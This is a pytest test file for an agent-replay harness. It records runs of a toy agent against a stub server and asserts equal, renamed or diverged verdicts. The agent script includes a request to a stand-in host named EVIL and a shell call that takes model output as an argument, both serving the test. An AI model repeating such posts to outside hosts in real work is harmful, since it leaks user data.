"""Recordings of real runs against each other: equal where the agent is, different where it is not.

Nothing steers the agents' clock or randomness here, so only agents that use neither are expected to
be equal, and ids only renamed.
"""

from __future__ import annotations

import json
import os
import sys
from pathlib import Path

import pytest

sys.path.insert(0, str(Path(__file__).resolve().parents[1]))

from harness.running import need, need_program
from harness.world import API, EVIL, NEWS, POLICY, World
from replay_making import identify
from stub import Stub

from hark.bundle.events import Kind
from hark.bundle.reader import Bundle
from hark.replay import Verdict, compare
from hark.replay.identity import differences, ignored

pytestmark = pytest.mark.kernel

AGENT = f"""
import json, subprocess, urllib.error, urllib.request, uuid

def ask(content, host="{API}", **more):
    call = dict(model="m", messages=[dict(role="user", content=content)], **more)
    headers = {{"Content-Type": "application/json", "Authorization": "Bearer x"}}
    url = "https://" + host + "/v1/chat/completions"
    request = urllib.request.Request(url, json.dumps(call).encode(), headers)
    try:
        with urllib.request.urlopen(request) as answer:
            return json.load(answer)["choices"][0]["message"]["content"]
    except urllib.error.HTTPError as error:
        return str(error.code)

said = ask("one")
words = ["/bin/sh", "-c", "echo $0 | tr a-z A-Z", said, "long" * 1000]  # kept as a chunk
tool = subprocess.run(words, capture_output=True)
print(ask("the tool said " + tool.stdout.decode()))
print(ask("post it", host="{EVIL}"))
open("note.txt", "w").write(said)
print(LAST)
"""
SAME = "ask('three')"
RENAMED = "ask('three', session=str(uuid.uuid4()))"
CHANGED = "ask('three!')"
SURPLUS = "(ask('three'), subprocess.run(['/bin/true']))[0]"


@pytest.fixture(scope="module")
def bundles(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Path]:
    need("root", os.geteuid() == 0)
    python = need_program("python3")
    made: dict[str, Path] = {}
    top = tmp_path_factory.mktemp("pairs")
    with Stub(top / "stub", (API, NEWS, EVIL)) as stub:
        (top / "policy.toml").write_text(POLICY)
        for name, last in (
            ("first", SAME),
            ("second", SAME),
            ("id one", RENAMED),
            ("id two", RENAMED),
            ("changed", CHANGED),
            ("surplus", SURPLUS),
        ):
            world = World(stub, top / name, top / "policy.toml")
            world.work.mkdir(parents=True)
            (world.work / "agent.py").write_text(AGENT.replace("LAST", last))
            done = world.run(python, "agent.py")
            assert done.status == 0, done.stderr
            made[name] = world.bundle
    return made


def judged(bundles: dict[str, Path], left: str, right: str) -> Verdict:
    verdict = compare(bundles[left], bundles[right])
    json.dumps(verdict.to_json())
    return verdict


def test_the_same_agent_twice_is_exact(bundles: dict[str, Path]) -> None:
    verdict = judged(bundles, "first", "second")
    assert verdict.first_line() == "REPLAY-EQUAL exact", "\n".join(verdict.lines())
    assert verdict.recorded == verdict.now
    assert verdict.tally.matched == verdict.actions > 8
    assert not verdict.notes


def test_ids_it_mints_are_renamed(bundles: dict[str, Path]) -> None:
    verdict = judged(bundles, "id one", "id two")
    assert verdict.first_line() == "REPLAY-EQUAL renamed 1", "\n".join(verdict.lines())
    assert verdict.recorded.strict != verdict.now.strict
    assert verdict.recorded.renamed == verdict.now.renamed


def test_a_changed_agent_diverges_at_what_it_changed(bundles: dict[str, Path]) -> None:
    verdict = judged(bundles, "first", "changed")
    assert verdict.first_line().startswith("REPLAY-DIVERGED at action ")
    assert verdict.divergence is not None
    assert verdict.divergence.nearest is not None
    (difference,) = verdict.divergence.nearest.differences
    assert difference.field == "body $.messages[0].content"
    assert (difference.recorded, difference.now) == ('"three', '"three!')
    assert verdict.divergence.path == "agent"
    assert "response to POST" in verdict.divergence.last_input


def test_a_surplus_program_diverges(bundles: dict[str, Path]) -> None:
    verdict = judged(bundles, "first", "surplus")
    assert verdict.divergence is not None
    assert verdict.divergence.now is not None
    assert verdict.divergence.now.title == "exec /bin/true"
    assert verdict.divergence.path.startswith("agent/")


def test_every_byte_of_every_recorded_request_counts_or_is_named(bundles: dict[str, Path]) -> None:
    caught = named = 0
    with Bundle.open(bundles["id one"]) as bundle:
        heads = [e.payload[8] for e in bundle.events(Kind.REQUEST) if e.payload]
        bodies = [e.payload[4] for e in bundle.events(Kind.BODY) if e.payload and e.payload[4]]
        pairs = [
            (bundle.read_body(h), bundle.read_body(b)) for h, b in zip(heads, bodies, strict=True)
        ]
    for head, body in pairs:
        original = identify(head, body)
        for at in range(len(head) + len(body)):
            raw = bytearray(head + body)
            if raw[at] in b"\r\n":
                continue
            raw[at] = raw[at] ^ 1 if raw[at] ^ 1 not in b"\r\n" else raw[at] ^ 2
            mutant = identify(bytes(raw[: len(head)]), bytes(raw[len(head) :]))
            if mutant.normalised != original.normalised:
                assert differences(original, mutant)
                caught += 1
            else:
                assert ignored(original, mutant)
                named += 1
    assert caught > named > 0
